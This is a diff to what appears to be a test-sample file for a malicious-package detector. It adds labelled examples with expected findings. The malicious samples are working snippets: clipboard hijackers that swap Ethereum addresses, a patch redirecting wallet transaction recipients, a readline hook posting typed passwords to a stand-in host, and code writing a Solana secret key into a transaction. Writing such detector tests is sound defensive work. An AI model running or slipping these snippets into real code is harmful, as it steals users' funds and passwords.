@@ -64,8 +64,55 @@ export const samples: Samples = {
       ),
       expected: [at('key-material', 'high', 'index.js', 2)],
     },
+    {
+      name: 'what is copied from a page, swapped by its listener',
+      files: imported(
+        `const mine = '${MINE}';\ndocument.addEventListener('copy', (event) => {\n  const text = String(getSelection());\n  event.clipboardData.setData('text/plain', /^0x[0-9a-fA-F]{40}$/.test(text) ? mine : text);\n});\n`,
+      ),
+      expected: [at('clipper', 'high', 'index.js', 2)],
+    },
+    {
+      name: 'programs that read and fill the clipboard, again and again',
+      files: imported(
+        `const { execFileSync: run } = require('child_process');\nconst [paste, copy] = ['pbpaste', 'pbcopy'];\nsetInterval(() => {\n  const text = run(paste, { encoding: 'utf8' });\n  if (/^0x[0-9a-fA-F]{40}$/.test(text)) run(copy, { input: '${MINE}' });\n}, 900);\n`,
+      ),
+      expected: [at('clipper', 'high', 'index.js', 4)],
+    },
+    {
+      name: 'the calls of a wallet, replaced by a function that is given the wallet',
+      files: imported(
+        `const mine = '${MINE}';\nfunction wrap(provider) {\n  const ask = provider.request;\n  provider.request = (args) => ask({ ...args, to: mine });\n}\nwrap(window.ethereum);\n`,
+      ),
+      expected: [at('request-patch', 'high', 'index.js', 4)],
+    },
+    {
+      name: 'how passwords are asked for, tapped',
+      files: imported(
+        `const readline = require('readline/promises');\nconst http = require('http');\nconst ask = readline.Interface.prototype.question;\nreadline.Interface.prototype.question = async function (query) {\n  const answer = await ask.call(this, query);\n  http.request({ host: 'a.weir.test', method: 'POST' }).end(answer);\n  return answer;\n};\n`,
+      ),
+      expected: [at('tap', 'high', 'index.js', 4)],
+    },
+    {
+      name: 'a key written on a chain',
+      files: imported(
+        `const { Keypair, TransactionInstruction } = require('@solana/web3.js');\nexports.restore = (secretKey) => {\n  const pair = Keypair.fromSecretKey(secretKey);\n  return new TransactionInstruction({ keys: [], data: Buffer.from(pair.secretKey) });\n};\n`,
+      ),
+      expected: [at('key-material', 'high', 'index.js', 4)],
+    },
   ],
   benign: [
+    quiet(
+      'what is copied from a page, with where it is from',
+      imported(
+        `document.addEventListener('copy', (event) => {\n  event.clipboardData.setData('text/plain', String(getSelection()) + location.href);\n});\n`,
+      ),
+    ),
+    quiet(
+      'an address on the clipboard put into lower case when it is asked for',
+      imported(
+        `const { execFileSync: run } = require('child_process');\nexports.tidy = () => {\n  const text = run('pbpaste', { encoding: 'utf8' });\n  if (/^0x[0-9a-fA-F]{40}$/.test(text)) run('pbcopy', { input: text.toLowerCase() });\n};\n`,
+      ),
+    ),
     quiet(
       'Python: a signature that is sent',
       wheel(
